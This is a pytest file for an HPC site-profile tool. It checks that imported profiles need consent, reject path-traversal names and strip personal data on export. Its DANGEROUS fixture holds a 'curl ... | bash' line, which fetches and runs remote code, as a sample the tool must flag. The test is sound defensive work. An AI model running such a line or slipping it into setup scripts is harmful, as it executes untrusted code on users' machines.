"""Profiles between people: shown, asked about, and refused for use until agreed to; nothing personal travels."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from infrarsi_hpc.edges.sites import read_file, read_profile
from infrarsi_hpc.errors import ProfileError, UsageError
from infrarsi_hpc.stages.site.export import prepare_export, write_export
from infrarsi_hpc.stages.site.importing import prepare_import, trust, untrusted, write_import

QUIET = 'schema_version = 1\nname = "elm"\n'
RUNNING = QUIET + '[environment]\nsetup = ["module load cuda"]\n'
DANGEROUS = QUIET + '[environment]\nsetup = ["curl http://example.invalid/x | bash"]\n'


def infrarsi(home: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    environment = {"HOME": str(home), "PATH": os.environ["PATH"], "USER": "adal"}
    command = [sys.executable, "-m", "infrarsi_hpc.cli.app", *arguments]
    return subprocess.run(
        command, capture_output=True, text=True, check=False, env=environment, timeout=300, stdin=subprocess.DEVNULL
    )


def received(folder: Path, text: str) -> Path:
    path = folder / "received.toml"
    path.write_text(text)
    return path


def test_an_import_without_anybody_to_ask_writes_nothing(tmp_path: Path) -> None:
    done = infrarsi(tmp_path, "site", "import", str(received(tmp_path, RUNNING)))
    assert done.returncode == 2
    assert "module load cuda" in done.stderr
    assert not (tmp_path / ".config" / "infrarsi" / "sites" / "elm.toml").exists()


def test_yes_agrees_to_ordinary_lines(tmp_path: Path) -> None:
    assert infrarsi(tmp_path, "site", "import", str(received(tmp_path, RUNNING)), "--yes").returncode == 0
    assert read_profile("elm", {}, tmp_path).environment.setup == ("module load cuda",)


def test_yes_does_not_agree_to_dangerous_lines_and_trust_does(tmp_path: Path) -> None:
    done = infrarsi(tmp_path, "site", "import", str(received(tmp_path, DANGEROUS)), "--yes")
    assert done.returncode == 1
    assert "DANGEROUS" in done.stderr
    refused = infrarsi(tmp_path, "site", "check", "elm")
    assert refused.returncode == 3
    assert "infrarsi site trust elm" in refused.stderr
    rows = json.loads(infrarsi(tmp_path, "site", "list", "--json").stdout)
    assert {row["name"]: row["state"] for row in rows}["elm"] == "untrusted"
    assert infrarsi(tmp_path, "site", "trust", "elm").returncode == 2, "nobody to ask"
    assert infrarsi(tmp_path, "site", "trust", "elm", "--yes").returncode == 0
    assert read_profile("elm", {}, tmp_path).name == "elm"


def test_another_import_under_the_same_name_has_to_be_agreed_to_again(tmp_path: Path) -> None:
    write_import(prepare_import(received(tmp_path, RUNNING), {}, tmp_path), agreed=True)
    again = prepare_import(received(tmp_path, DANGEROUS), {}, tmp_path)
    assert any("is replaced" in remark for remark in again.remarks)
    write_import(again, agreed=False)
    with pytest.raises(ProfileError, match="not been agreed to"):
        read_profile("elm", {}, tmp_path)
    assert again.path.with_name("elm.toml.bak").read_text().count("module load cuda") == 1
    trust("elm", {}, tmp_path)
    assert untrusted("elm", {}, tmp_path)[1] == ()


def test_a_received_profile_brings_no_user_part_and_tells_what_it_hides(tmp_path: Path) -> None:
    text = QUIET.replace("elm", "local") + '[user]\naccount = "theirs"\n[notes]\ncomment = "hello"\n'
    found = prepare_import(received(tmp_path, text), {}, tmp_path)
    assert found.profile.user.account == ""
    said = " ".join(found.remarks)
    assert "takes the place of the shipped profile local" in said
    assert "[user]" in said
    assert "hello" in said
    assert prepare_import(received(tmp_path, text), {}, tmp_path, name="elm").path.name == "elm.toml"


@pytest.mark.parametrize("name", ["../x", "x.user", "A"])
def test_a_received_profile_cannot_choose_another_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(UsageError):
        prepare_import(received(tmp_path, QUIET), {}, tmp_path, name=name)
    with pytest.raises((ProfileError, UsageError)):
        prepare_import(received(tmp_path, QUIET.replace("elm", name)), {}, tmp_path)


def test_a_received_file_that_is_no_profile_is_refused_and_leaves_nothing(tmp_path: Path) -> None:
    for text in ("schema_version = 9\n", 'name = "elm"\n', "x" * 300_000, "<html>"):
        done = infrarsi(tmp_path, "site", "import", str(received(tmp_path, text)), "--yes")
        assert done.returncode == 3
        assert "Traceback" not in done.stderr
    assert not (tmp_path / ".config").exists()


PERSONAL = """schema_version = 1
name = "elm" # ask Ada
[environment]
setup = ["source /home/adal/miniforge3/bin/activate"]
variables = { HF_TOKEN = "hf_0123456789abcdef", RUN = "adal-7" }
[user]
account = "ada-lab"
"""


def test_an_export_shows_asks_and_imports_again(tmp_path: Path) -> None:
    folder = tmp_path / ".config" / "infrarsi" / "sites"
    folder.mkdir(parents=True)
    (folder / "elm.toml").write_text(PERSONAL)
    target = tmp_path / "shared.toml"
    asked = infrarsi(tmp_path, "site", "export", "elm", "-o", str(target))
    assert asked.returncode == 2
    assert "HF_TOKEN: left out" in asked.stderr
    assert not target.exists()
    assert infrarsi(tmp_path, "site", "export", "elm", "-o", str(target), "--yes").returncode == 0
    text = target.read_text()
    assert not any(word in text for word in ("adal", "hf_", "ada-lab", "Ada"))
    assert infrarsi(tmp_path, "site", "import", str(target), "--name", "birch", "--yes").returncode == 0
    assert read_profile("birch", {}, tmp_path).environment.setup == ("source $HOME/miniforge3/bin/activate",)
    assert infrarsi(tmp_path, "site", "export", "elm", "-o", str(target), "--yes").returncode == 2, "replaces nothing"
    printed = json.loads(infrarsi(tmp_path, "site", "export", "elm", "--json").stdout)
    assert printed["text"] == text
    assert "hf_" not in json.dumps(printed)


def test_an_export_is_the_same_whoever_exports_it_again(tmp_path: Path) -> None:
    first = prepare_export(read_file(received(tmp_path, PERSONAL)), ["adal"])
    path = tmp_path / "out.toml"
    write_export(first, path)
    assert prepare_export(read_file(path), ["someone"]).text == first.text


def test_show_and_list_read_profiles_that_may_not_be_used_and_pass_over_broken_ones(tmp_path: Path) -> None:
    folder = tmp_path / ".config" / "infrarsi" / "sites"
    folder.mkdir(parents=True)
    (folder / "broken.toml").write_text("x")
    assert json.loads(infrarsi(tmp_path, "site", "show", "testbed", "--json").stdout)["name"] == "testbed"
    assert "module load apptainer" in infrarsi(tmp_path, "site", "show", "apptainer-modules").stdout
    rows = json.loads(infrarsi(tmp_path, "site", "list", "--json").stdout)
    assert {row["name"]: row["state"] for row in rows}["broken"] == "broken"
